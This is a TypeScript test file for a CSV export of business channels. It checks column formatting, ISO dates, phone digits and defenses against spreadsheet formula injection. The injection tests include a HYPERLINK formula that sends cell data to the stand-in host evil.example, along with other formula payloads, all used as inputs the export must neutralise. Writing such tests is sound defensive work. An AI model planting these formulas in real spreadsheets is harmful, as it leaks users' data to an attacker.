import fc from 'fast-check';
import papaparse from 'papaparse';
import { describe, expect, test } from 'vitest';
import { neutralise } from '#api/formula-guard.ts';
import { csvColumns, csvHead, type ExportRow, toCells, toCsv } from './csv-rows.ts';

function rowOf(fields: Partial<ExportRow> = {}): ExportRow {
  return {
    id: 'MANTIS-PF298',
    name: 'Bakery Rosa',
    phone: '447700900123',
    mode: 'live',
    status: 'active',
    created: '2026-10-23 23:59:59.999',
    till: '2026-12-22 00:00:00',
    ...fields,
  };
}

function parsed(rows: readonly ExportRow[]): string[][] {
  const { data, errors } = papaparse.parse<string[]>(csvHead.slice(1) + toCsv(rows), {
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  return data;
}

test('the head is a byte order mark and exactly the eight columns', () => {
  expect(csvHead).toBe(
    '\ufeffName,ID,Phone Number,Work Period,Status,Mode,Created Date,Billing Status\r\n',
  );
});

test('a channel is one line that ends with CRLF', () => {
  expect(toCsv([rowOf()])).toBe(
    'Bakery Rosa,MANTIS-PF298,447700900123,2026-10-23/2026-12-22,Active,Live,2026-10-23T23:59:59.999Z,Live\r\n',
  );
});

test('no channels are no lines', () => {
  expect(toCsv([])).toBe('');
});

describe('work period', () => {
  test.each([
    [{ created: null }, '../2026-12-22'],
    [{ till: null }, '2026-10-23/..'],
    [{ created: null, till: null }, ''],
  ])('with %j is %j', (fields, period) => {
    expect(toCells(rowOf(fields))[3]).toBe(period);
  });
});

test.each([
  ['2026-10-23 23:59:59.999', '2026-10-23T23:59:59.999Z'],
  ['2026-10-23 23:59:59.9', '2026-10-23T23:59:59.900Z'],
  ['2026-10-23 00:00:00', '2026-10-23T00:00:00.000Z'],
  ['2026-10-23 00:00:00.123987', '2026-10-23T00:00:00.123Z'],
  [null, ''],
])('a channel created at %j says so in ISO 8601 as %j', (created, cell) => {
  expect(toCells(rowOf({ created }))[6]).toBe(cell);
});

test.each([
  ['trial', 'Trial', 'Trial'],
  ['live', 'Live', 'Live'],
  ['dev', 'Sandbox', 'Sandbox (dev)'],
  ['dev_archive', 'Archived sandbox', 'Sandbox (dev)'],
] as const)('mode %s is written %s, billed as %s', (mode, word, billing) => {
  const cells = toCells(rowOf({ mode }));

  expect([cells[5], cells[7]]).toEqual([word, billing]);
});

describe('a phone number', () => {
  test.each([
    ['447700900123', '447700900123'],
    ['+44 7700 900123', '447700900123'],
    ['=1+1', '11'],
    ['@SUM(A1)', '1'],
    [null, ''],
  ])('%j stays digits without an apostrophe', (phone, cell) => {
    expect(toCells(rowOf({ phone }))[2]).toBe(cell);
  });
});

describe('a name that a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '+1 Event Planners',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tharmless',
    ' =1',
    '\u200b=1',
    '\ufeff=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  ])('%j gets an apostrophe before it', (name) => {
    expect(parsed([rowOf({ name })])[1]?.[0]).toBe(`'${name}`);
  });

  test.each(['Bakery Rosa', 'a=b', "'=1", '1-2', 'e@mail', ''])('%j is none', (name) => {
    expect(parsed([rowOf({ name })])[1]?.[0]).toBe(name);
  });

  test('cannot begin a cell of its own where semicolons or tabs separate', () => {
    for (const name of ['a;=1+1', 'a\t=1+1']) {
      expect(toCsv([rowOf({ name })])).toMatch(/^"a[;\t]=1\+1",/);
    }
  });
});

test('whatever channels are called, reading the file back gives their cells', () => {
  const name = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 40 }).map((text) => text.toWellFormed()),
    fc.string({ unit: fc.constantFrom('=', '+', '"', ',', '\r', '\n', ';', '\t', "'", ' ', 'a') }),
  );

  fc.assert(
    fc.property(fc.array(name, { minLength: 1, maxLength: 5 }), (names) => {
      const rows = names.map((each) => rowOf({ name: each }));

      const [header, ...lines] = parsed(rows);

      expect(header).toEqual([...csvColumns]);
      expect(lines).toEqual(rows.map(toCells));
      expect(lines.map((cells) => cells[0])).toEqual(names.map(neutralise));
    }),
  );
});
